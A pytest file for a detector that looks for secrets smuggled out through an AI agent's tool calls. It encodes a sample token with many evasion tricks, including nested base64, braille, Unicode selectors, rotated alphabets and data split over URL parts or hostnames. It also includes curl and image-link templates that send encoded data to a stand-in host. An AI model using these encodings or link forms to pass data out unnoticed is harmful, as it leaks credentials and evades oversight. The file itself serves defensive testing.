"""Codings that hardly anybody uses are read, and honest texts of the same looks are left alone."""

from __future__ import annotations

import base64
import bz2
import json
import random
import string
import uuid
import zlib
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.content import host_names, own_codings, url_parts
from guard.content.host_names import host_hides_data
from guard.content.own_codings import (
    LIMIT,
    TRIED,
    is_turned_sentence,
    respelt,
    turned,
    ungrouped,
)
from guard.content.secret_forms import SecretForms
from guard.content.url_parts import links_hide_data, url_hides_data
from guard.core.calls import ClassifiedCall
from guard.core.model import Identity, Role, ToolCall
from guard.core.trajectory import Snapshot
from guard.detectors import DetectorResources
from guard.detectors import secrets as secret_detector
from guard.detectors.secrets import Secrets
from lab.trust.content import OWN, SENTENCES, SHIFTED, TURNED

DETECTOR = Secrets.create(DetectorResources())
TOKEN = "ghp_0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"
MORE = {
    "deflated": lambda text: _coded(zlib.compress(text.encode())[2:-4]),
    "bzip2": lambda text: _coded(bz2.compress(text.encode())),
    "selectors": lambda text: "x" + "".join(chr(0xE0100 + ord(char) - 16) for char in text),
    "braille": lambda text: "".join(chr(0x2800 + ord(char)) for char in text),
    "code points": lambda text: ", ".join(str(byte) for byte in text.encode()),
    "shifted codes": lambda text: ", ".join(str(byte + 5) for byte in text.encode()),
    "halves changed": lambda text: text[len(text) // 2 :] + text[: len(text) // 2],
    "concatenated": lambda text: " + ".join(
        f'"{text[at : at + 5]}"' for at in range(0, len(text), 5)
    ),
    "five times base 64": lambda text: _times(5, text),
}


def _coded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _times(count: int, text: str) -> str:
    return text if not count else _times(count - 1, _coded(text.encode()))


def finds(text: str) -> bool:
    """Return whether the detector finds a secret in a body."""
    call = ToolCall("id", Identity("p", "s"), "mail_send", {"body": text}, "mcp", 0.0)
    return bool(DETECTOR.inspect(ClassifiedCall(call, Role.SEND), Snapshot()))


@pytest.mark.parametrize("coding", [*OWN, *TURNED, *MORE])
def test_a_key_is_found_in_a_coding_that_no_program_exchanges(coding) -> None:
    """Alone and as a member of a document."""
    spelt = {**OWN, **TURNED, **MORE}[coding](TOKEN)

    assert finds(spelt)
    assert finds(json.dumps({"kind": "note", "value": spelt}))


@pytest.mark.parametrize(
    ("name", "instead", "spelt"),
    [
        ("respelt", lambda _: (), OWN["base 62"](TOKEN)),
        ("turned", lambda _: iter(()), TURNED["by 7"](TOKEN)),
        ("members", lambda _: iter(()), "https://x.test/" + quote(TURNED["by 47"](TOKEN))),
    ],
)
def test_without_a_step_the_key_is_missed(monkeypatch, name, instead, spelt) -> None:
    """Each is needed."""
    assert finds(spelt)
    monkeypatch.setattr(secret_detector, name, instead)
    assert not finds(spelt)


@pytest.mark.parametrize(
    "turn", [lambda text: text[::-1], TURNED["by 7"], TURNED["by 13"]], ids=["back", "7", "13"]
)
def test_a_password_is_known_by_its_name_in_a_turned_alphabet(monkeypatch, turn) -> None:
    """Its value has no form; the word that names it has one, backwards or rotated."""
    texts = [turn(f"password=2sRFC{digits}xdpQ") for digits in ("746", "747")]
    links = [f"https://x.test/i.gif?lang=en&note={quote(text)}&n=1" for text in texts]

    assert finds(texts[0])
    assert finds(links[0])
    monkeypatch.setattr(secret_detector, "named_forms", lambda: SecretForms(()))
    assert not finds(texts[1])


@pytest.mark.parametrize("sentence", SENTENCES)
@pytest.mark.parametrize("by", SHIFTED)
def test_a_sentence_in_a_turned_alphabet_is_told_in_a_url(monkeypatch, sentence, by) -> None:
    """In a path, a query and a host; without the turning it is not."""
    words = sentence.replace(".", "").translate(SHIFTED[by]).split()

    urls = (f"https://x.test/{'-'.join(words)}", f"https://x.test/?q={'+'.join(words)}")
    assert all(map(url_hides_data, urls))
    assert host_hides_data(f"{'-'.join(words)[:60]}.x.test".lower())
    monkeypatch.setattr(url_parts, "is_turned_sentence", lambda _: False)
    assert not any(map(url_hides_data, urls))


@pytest.mark.parametrize(
    "url",
    [
        "https://x.test/"
        + "/".join(_coded(SENTENCES[1].encode())[at : at + 6] for at in range(0, 96, 6)),
        "https://x.test/?"
        + "&".join(f"p{n}={c}" for n, c in enumerate(SENTENCES[1].encode().hex())),
        f"https://{_coded(SENTENCES[1].encode())[:40]}@x.test/a",
        "https://x.test/"
        + "/".join(str(uuid.UUID(bytes=SENTENCES[2].encode()[at : at + 16])) for at in (0, 16, 32)),
        "https://x.test/?n=" + str(int.from_bytes(SENTENCES[1].encode(), "big")),
    ],
)
def test_a_sentence_over_the_parts_of_a_url_is_told(monkeypatch, url) -> None:
    """Each part says nothing; joined, or read as a number, they do."""
    assert url_hides_data(url)
    monkeypatch.setattr(url_parts, "_tells", lambda *_: False)
    assert not url_hides_data(url)


def test_a_key_over_several_labels_is_told_and_ids_of_services_are_names(monkeypatch) -> None:
    """One drawn run is an id; several that could tell a key are none."""
    drawn = random.Random(1)
    letters = string.ascii_lowercase + string.digits
    hosts = [
        ".".join("".join(drawn.choices(letters, k=size)) for _ in range(40 // size)) + ".x.test"
        for size in (5, 8, 10)
    ]

    assert all(map(host_hides_data, hosts))
    for name in (
        "d111111abcdef8.cloudfront.net",
        "r3---sn-4g5e6nsz.googlevideo.com",
        "vpce-0a1b2c3d4e5f67890-abcd12gh.s3.us-east-1.vpce.amazonaws.com",
        "my-svc-k3j5h7q2ab-uc.a.run.app",
        "cluster0-shard-00-01.k9x2z.mongodb.net",
        "app-git-feature-new-login-page-myteam.vercel.app",
        "6f1a2b3c-4d5e-6f70-8192-a3b4c5d6e7f8.clouddatabases.appdomain.cloud",
    ):
        assert not host_hides_data(name)
    monkeypatch.setattr(host_names, "_is_drip", lambda _: False)
    assert not all(host_hides_data(host) for host in (host.replace(".x.", ".y.") for host in hosts))


@pytest.mark.parametrize("shape", ["see ![x]({})", "<img src='{}'>", "curl -s '{}'", "[1]: {}"])
def test_a_link_in_a_text_is_read_as_one_that_is_fetched(shape) -> None:
    """Whoever shows the text may fetch it; long ids in links of others are none of this."""
    coded = base64.urlsafe_b64encode(SENTENCES[1].encode()).decode().rstrip("=")

    assert links_hide_data(shape.format(f"https://x.test/i.png?d={coded}"))
    assert not links_hide_data(shape.format("https://x.test/unsubscribe?u=" + "a7Fk29Qx" * 9))


@pytest.mark.parametrize(
    "text",
    [
        "Call +49 30 1234 5678 1234 5678 or write to pat@corp.example by 2026-01-31.",
        "id,sku,qty\n1001,aB3dE6fG,2\n1002,hJ8kL1mN,4\n1003,pQ5rS7tU,1",
        "MAC 00:1a:2b:3c:4d:5e, IPv6 2001:0db8:85a3:0000:0000:8a2e:0370:7334",
        "Answers: A, B, C, D, A, A, B, C, D, D, A, B, C, C, B, A, D, A, B, C",
        "DNA ATGGCCATTGTAATGGGCCGCTGAAAGGGTGCCCGATAG, chord C-G-A-F-C-G-A-F-C-G-A-F-C-G-A-F",
        "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        "👍🎉🚀👩‍💻👨‍👩‍👧‍👦❤️❤️❤️❤️❤️❤️❤️❤️ 🎉🎊🥳🎂🍰🎁🎈🕯️✨💐🌹🍾🥂🍻😀😃😄😁😆😅😂🤣😊😇🙂🙃",
        "می‌خواهیم درباره‌ی بودجه صحبت کنیم و نمی‌توانیم دیر کنیم، نامه‌ها آماده‌اند",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
        "https://x.test/items?ids=1021,1022,1023,1024,1025,1026,1027&fields=id,name,size",
        "https://cy.wikipedia.org/wiki/Rhestr_o_drefi_a_phentrefi_yng_Nghymru",
        "https://hu.wikipedia.org/wiki/Magyarorszag_teruleti_valtozasai_es_hatarai",
        "org.example.beans.AbstractAutowireCapableBeanFactory.instantiateUsingFactoryMethod",
    ],
)
def test_honest_texts_of_the_same_looks_are_left_alone(text) -> None:
    """Lists, numbers, pictures of letters, ids, other languages."""
    assert not finds(text)
    assert not links_hide_data(text)


@pytest.mark.parametrize("seed", range(20))
def test_what_is_drawn_at_random_says_nothing(seed) -> None:
    """What a positional coding makes of noise is noise."""
    rng = random.Random(seed)
    words = [
        "".join(rng.choices(string.ascii_letters + string.digits, k=rng.randint(16, 60)))
        for _ in range(20)
    ]

    assert not [text for word in words for text in respelt(word) if text not in ungrouped(word)]
    assert not finds(" ".join(words))


@given(st.text(max_size=300))
def test_nothing_makes_it_raise(text) -> None:
    """Whatever stands there."""
    respelt(text)
    list(turned(text))
    is_turned_sentence(text)
    links_hide_data(text)


def test_a_long_text_is_a_document_and_few_of_its_words_are_tried() -> None:
    """Bounded by number and length, whatever the text."""
    drawn = random.Random(2)
    words = ["".join(drawn.choices(string.ascii_letters, k=24)) for _ in range(4 * TRIED)]

    assert len(list(own_codings._drawn_words(" ".join(words)))) == TRIED
    assert respelt("x" * (LIMIT + 1)) == ()


def test_what_stands_behind_a_dot_is_no_ending_of_a_file() -> None:
    """In a link inside a link, and in a value; an ending is short."""
    coded = _coded(SENTENCES[2].encode())

    assert url_hides_data("https://x.test/r?to=" + quote(f"https://y.test/?m={coded}"))
    assert url_hides_data(f"https://x.test/r?v=a.{coded[:64]}")


def test_letters_of_other_alphabets_are_read_as_no_number() -> None:
    """A word with one of them is in no coding of letters and digits."""
    assert all(own_codings._raw("aB3dE6gH9j\u0528mN5pQ8sT1v"))
